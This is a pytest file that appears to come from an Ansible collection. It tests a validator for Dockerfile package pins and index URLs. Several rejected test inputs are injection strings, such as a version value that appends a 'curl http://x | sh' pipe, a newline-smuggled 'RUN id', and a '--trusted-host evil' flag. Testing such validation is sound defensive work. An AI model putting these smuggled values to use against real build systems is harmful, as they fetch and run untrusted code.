# Copyright: gb10.serving maintainers
# Apache-2.0
"""The pins and the index URL the serving image's Dockerfile is written with (issue 18 item 5: the role's
preflight checks them, since the serving plan never sees these role variables)."""

from __future__ import annotations

import pytest

from ansible_collections.gb10.serving.plugins.filter.serving_image import serving_image_input_problems
from ansible_collections.gb10.serving.plugins.module_utils import _serving_image_inputs as inputs


def test_exact_pins_and_an_https_index_pass():
    pins = {"flashinfer-python": "0.6.18", "nvidia_cutlass_dsl": "4.2.1.post1"}
    assert inputs.input_problems("2.60.0", pins, "https://pypi.org/simple") == []
    assert inputs.input_problems("2.60.0", {}, "") == []  # a wheelhouse build: no index URL


@pytest.mark.parametrize(
    ("name", "version"),
    [
        ("flashinfer-python", '0.6.18" && curl -s http://x | sh #'),
        ("flashinfer-python", "0.6.18\nRUN id"),
        ("flashinfer-python", ">=0.6"),
        ("flashinfer-python[all]", "0.6.18"),
        ("flashinfer python", "0.6.18"),
        ("flashinfer-python", "latest"),
    ],
)
def test_pin_that_is_not_one_exact_pin_refused(name, version):
    (problem,) = inputs.input_problems("2.60.0", {name: version}, "")
    assert problem.startswith(f"serving_image_extra_pins {name!r}")


def test_ray_version_must_be_a_version():
    (problem,) = inputs.input_problems("2.60.0 --pre", {}, "")
    assert problem.startswith("serving_image_ray_version 'ray'")


@pytest.mark.parametrize(
    "url",
    [
        "ftp://mirror.example/simple",
        "file:///srv/wheels",
        "https://",
        "pypi.org/simple",
        "https://mirror.example/simple --trusted-host evil",
        "https://mirror.example/simple\nRUN id",
        "https://mirror.example:port/simple",
    ],
)
def test_index_url_that_is_not_a_bare_http_url_refused(url):
    (problem,) = inputs.input_problems("2.60.0", {}, url)
    assert problem.startswith(f"serving_image_index_url {url!r}")


def test_filter_hands_the_role_variables_over():
    assert serving_image_input_problems({}, "2.60.0", "http://registry.local:3141/root/pypi/+simple/") == []
    assert len(serving_image_input_problems({"a": "1 2"}, "x", "ftp://y")) == 3
